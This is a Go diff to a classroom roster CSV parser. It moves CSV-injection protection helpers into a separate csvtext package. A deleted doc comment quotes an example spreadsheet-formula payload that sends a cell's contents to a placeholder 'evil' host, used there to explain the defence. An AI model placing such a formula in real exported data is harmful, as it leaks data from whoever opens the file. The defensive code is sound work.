@@ -8,6 +8,7 @@ import (
 	"encoding/csv"
 	"errors"
 	"fmt"
+	"github.com/classroomd/classroomd/internal/csvtext"
 	"io"
 	"strings"
 )
@@ -85,8 +86,8 @@ func Parse(r io.Reader) ([]Row, error) {
 		rows = append(rows, Row{
 			Line:         line,
 			Username:     strings.TrimSpace(get("username")),
-			FullName:     FromSpreadsheet(strings.TrimSpace(get("full_name"))),
-			Email:        FromSpreadsheet(strings.TrimSpace(get("email"))),
+			FullName:     csvtext.FromSpreadsheet(strings.TrimSpace(get("full_name"))),
+			Email:        csvtext.FromSpreadsheet(strings.TrimSpace(get("email"))),
 			Role:         strings.ToLower(strings.TrimSpace(get("role"))),
 			Password:     get("password"),
 			PasswordHash: strings.TrimSpace(get("password_hash")),
@@ -133,29 +134,3 @@ func WritePasswords(w io.Writer, gen []Generated) error {
 	cw.Flush()
 	return cw.Error()
 }
-
-// SpreadsheetText keeps a cell people typed (a full name, an email) from
-// being read as a formula when the CSV is opened in a spreadsheet (CSV
-// injection: a name such as =HYPERLINK("http://evil/?"&A2,"x") would run in
-// the reader's spreadsheet): a cell starting with =, +, -, @, a tab or a
-// carriage return gets a leading apostrophe, which spreadsheets take as
-// "this is text" and do not show (OWASP's advice). FromSpreadsheet undoes
-// it, so that an exported roster imports again unchanged.
-func SpreadsheetText(s string) string {
-	if s != "" && strings.ContainsRune(formulaStarts, rune(s[0])) {
-		return "'" + s
-	}
-	return s
-}
-
-// FromSpreadsheet takes off the apostrophe SpreadsheetText put before a
-// formula's first character (so a name that itself began with "'=" would
-// lose its apostrophe: none do).
-func FromSpreadsheet(s string) string {
-	if len(s) >= 2 && s[0] == '\'' && strings.ContainsRune(formulaStarts, rune(s[1])) {
-		return s[1:]
-	}
-	return s
-}
-
-const formulaStarts = "=+-@\t\r"
